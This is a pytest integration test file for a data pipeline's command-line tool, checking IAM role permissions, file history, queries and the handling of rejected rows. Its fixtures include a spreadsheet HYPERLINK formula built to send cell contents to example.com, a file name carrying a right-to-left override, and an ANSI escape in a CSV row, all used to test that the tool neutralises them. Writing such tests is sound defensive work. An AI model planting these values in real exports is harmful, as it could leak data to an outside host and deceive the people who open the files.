"""The tool for people, with real credentials: an administrator's, and those of each role."""

import contextlib
import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import boto3
import click
import pytest

from pipeline.command import Command
from pipeline.outcomes import Exit
from pipeline.program import OF_A_STACK, program
from tests.integration.conftest import Pipeline
from tests.integration.people import DATASET, begin_session
from tests.integration.tool import Answer, run
from tests.patience import PERMISSION, wait_for

if TYPE_CHECKING:
    from mypy_boto3_iam import IAMClient

DUTIES = ("Producer", "Consumer", "Steward")
FORMULA = '=HYPERLINK("http://example.com/"&A1)'


@dataclass(frozen=True)
class Files:
    """The keys of three files, by what they are about, and a file that names nobody in them."""

    rejects: str
    refused: str
    corrected: str
    nobody: Path


@dataclass
class People:
    """Roles of the account, of one dataset each, and sessions of them."""

    iam: "IAMClient"
    outputs: dict[str, str]
    later: contextlib.ExitStack

    def with_policy(self, policy: str = "") -> tuple[str, boto3.Session]:
        """A role with a managed policy, or with none: its name, and a session."""
        return begin_session(self.iam, self.outputs, self.later, policy)

    @contextlib.contextmanager
    def operator(self, *commands: str) -> Iterator[boto3.Session]:
        """A session of somebody who may do exactly what some commands need.

        Whoever tests another environment than dev can make no such role.
        """
        name, session = self.with_policy()
        actions = sorted({action for one in commands for action in loaded(one).actions})
        allow = {"Effect": "Allow", "Action": actions, "Resource": "*"}
        document = json.dumps({"Version": "2012-10-17", "Statement": allow})
        policy = {"RoleName": name, "PolicyName": "its-own"}
        try:
            self.iam.put_role_policy(**policy, PolicyDocument=document)
        except self.iam.exceptions.ClientError as refusal:
            if refusal.response["Error"]["Code"] != "AccessDenied":
                raise
            pytest.skip("making an operator needs an administrator's credentials")
        try:
            yield session
        finally:
            self.iam.delete_role_policy(**policy)


@pytest.fixture(scope="module", name="people")
def make_people(iam: "IAMClient", outputs: dict[str, str]) -> Iterator[People]:
    """The people who call; their roles are deleted at the end."""
    with contextlib.ExitStack() as later:
        yield People(iam, outputs, later)


@pytest.fixture(scope="module", name="sessions")
def begin_sessions(people: People, outputs: dict[str, str]) -> dict[str, boto3.Session]:
    """A session of each duty."""
    return {duty: people.with_policy(outputs[f"{duty}PolicyArn"])[1] for duty in DUTIES}


@pytest.fixture(scope="module", name="files")
def process_files(pipeline: Pipeline, tmp_path_factory: pytest.TempPathFactory) -> Files:
    """A file with rejected rows, one that is refused, and one that is corrected."""
    header = b"customer_id,full_name,email,phone,birth_date,national_id,address,postcode,country,"
    header += b"signup_at,marketing_consent,loyalty_points,credit_limit\n"
    row = 'C{0:08},"{1}",c@example.com,,1990-02-28,,x,12345,DE,2024-02-29T12:00:00Z,true,{2},1\n'
    good = b"".join(row.format(number, "x", 1).encode() for number in range(1, 60))
    bad = row.format(60, FORMULA.replace('"', '""'), "\x1b[31m1").encode()
    names = [
        pipeline.name(DATASET, file)
        for file in ("a <b> & \N{RIGHT-TO-LEFT OVERRIDE}'c' [d].csv", "empty.csv", "wrong.csv")
    ]
    for name, content in zip(names, (header + good + bad, b"", b"wrong\n1\n"), strict=True):
        pipeline.process(name, content)
    pipeline.process(names[2], header + good)
    nobody = tmp_path_factory.mktemp("erased") / "nobody.txt"
    nobody.write_text("C99999999\n", encoding="utf-8")
    rejects, refused, corrected = (f"incoming/{name}" for name in names)
    return Files(rejects, refused, corrected, nobody)


def loaded(name: str) -> Command:
    """A command."""
    command = program.get_command(click.Context(program), name)
    assert isinstance(command, Command)
    return command


def arguments(name: str, files: Files) -> list[str]:
    """What a command is asked."""
    asked = {
        "show": [files.rejects],
        "rejects": [files.rejects],
        "query": ["SELECT count(*) AS rows FROM customers", "--dataset", DATASET],
        "redrive": [],
        "erase": [str(files.nobody), "--domain", "customer", "--dry-run"],
        "replay": ["--only", "refused", "--prefix", files.rejects],
    }
    return [name, *asked.get(name, ["--dataset", DATASET]), "--json"]


@pytest.mark.parametrize("duty", DUTIES)
@pytest.mark.parametrize("name", OF_A_STACK)
def test_each_role_may_call_what_the_help_says(
    name: str, duty: str, files: Files, sessions: dict[str, boto3.Session]
) -> None:
    command = loaded(name)
    may = duty in command.policies

    def ask() -> Answer | None:
        found = run(*arguments(name, files), session=sessions[duty])
        return found if (found.code == Exit.REFUSED) != may else None

    answer = wait_for(f"{name} as {duty}", ask, PERMISSION)
    assert answer.code in ((Exit.OK, Exit.WRONG) if may else (Exit.REFUSED,))
    if not may:
        assert answer.out == ""
        assert answer.err.startswith("Error: IAM refused ")
        assert answer.err.count("\n") == 1
        assert all(f"{policy} policy (arn:" in answer.err for policy in command.policies)


@pytest.mark.parametrize("name", OF_A_STACK)
def test_an_operator_needs_what_the_help_says(name: str, files: Files, people: People) -> None:
    with people.operator(name) as session:
        assert json.loads(ask_as_operator(session, *arguments(name, files)).out)


def ask_as_operator(session: boto3.Session, *asked: str) -> Answer:
    """Run a command once IAM has made the operator's permissions known."""

    def ask() -> Answer | None:
        found = run(*asked, session=session)
        return None if "IAM refused" in found.err else found

    return wait_for(f"{asked[0]} as an operator", ask, PERMISSION)


def test_files_are_found(files: Files, sessions: dict[str, boto3.Session]) -> None:
    def found(*options: str) -> set[str]:
        asked = ("files", "--dataset", DATASET, "--since", "1h", "--json", *options)
        answer = run(*asked, session=sessions["Consumer"])
        assert answer.code == Exit.OK
        return {file["key"] for file in json.loads(answer.out)["files"]}

    assert {files.rejects, files.refused, files.corrected} <= found()
    refused = found("--outcome", "refused")
    assert files.refused in refused
    assert not {files.rejects, files.corrected} & refused
    assert files.rejects in found("--reason", "row:*", "--outcome", "rejects")
    assert files.refused in found("--reason", "file:empty")


def test_the_history_of_a_file_has_every_version(files: Files, people: People) -> None:
    with people.operator("show") as session:
        answer = ask_as_operator(session, "show", files.corrected, "--json")
    assert answer.code == Exit.OK
    history = json.loads(answer.out)
    assert history["state"] == "processed"
    assert len(history["versions"]) == 2
    assert [one["outcome"] for one in history["earlier_manifests"]] == ["quarantined"]
    assert history["manifest"]["source"]["version_id"] == history["versions"][0]["version"]


def test_a_refused_file_says_what_to_do(files: Files, sessions: dict[str, boto3.Session]) -> None:
    answer = run("show", files.refused, session=sessions["Consumer"])
    assert answer.code == Exit.WRONG
    assert "file:empty" in answer.out
    assert "As producer: Upload the file once it is complete" in answer.out


def test_a_reader_does_not_see_the_versions_but_is_told(
    files: Files, sessions: dict[str, boto3.Session]
) -> None:
    answer = run("show", files.rejects, session=sessions["Consumer"])
    assert answer.code == Exit.OK
    assert "Not shown: IAM refused s3:ListBucketVersions on incoming/" in answer.err
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in answer.out + answer.err


def test_a_consumer_asks_the_tables_of_their_dataset_only(
    files: Files, sessions: dict[str, boto3.Session]
) -> None:
    sql = f"SELECT count(*) AS number FROM {DATASET}"
    answer = run("query", sql, "--dataset", DATASET, "--json", session=sessions["Consumer"])
    assert answer.code == Exit.OK
    found = json.loads(answer.out)
    assert found["columns"] == ["number"]
    assert int(found["rows"][0][0]) >= 59, files.rejects
    refused = run("query", sql, "--dataset", "payments", session=sessions["Consumer"])
    assert refused.code == Exit.REFUSED
    assert "IAM refused athena:StartQueryExecution on zero-trust-" in refused.err


def test_a_steward_corrects_rows_and_runs_no_formula(
    files: Files, sessions: dict[str, boto3.Session]
) -> None:
    answer = run("rejects", files.rejects, "--csv", session=sessions["Steward"])
    assert answer.code == Exit.OK
    text = answer.out.removeprefix("\ufeff")
    ((_, line, reasons, advice, *fields),) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert line == "61"
    assert reasons == "row:control-character"
    assert advice
    assert fields[1] == f"'{FORMULA}"
    assert "\x1b" not in answer.out
    shown = run("rejects", files.rejects, session=sessions["Steward"])
    assert "\x1b" not in shown.out + shown.err


def test_the_status_counts_what_is_there(files: Files, people: People) -> None:
    with people.operator("status") as session:
        answer = ask_as_operator(session, "status", "--dataset", DATASET, "--json")
    assert answer.code == Exit.WRONG, files.refused
    (status,) = json.loads(answer.out)["datasets"]
    assert status["files"] >= 3
    assert status["rows"] == status["clean"] + status["rejected"] + status["erased"]
    assert status["refused"] >= 1
    assert status["waiting"] >= 0
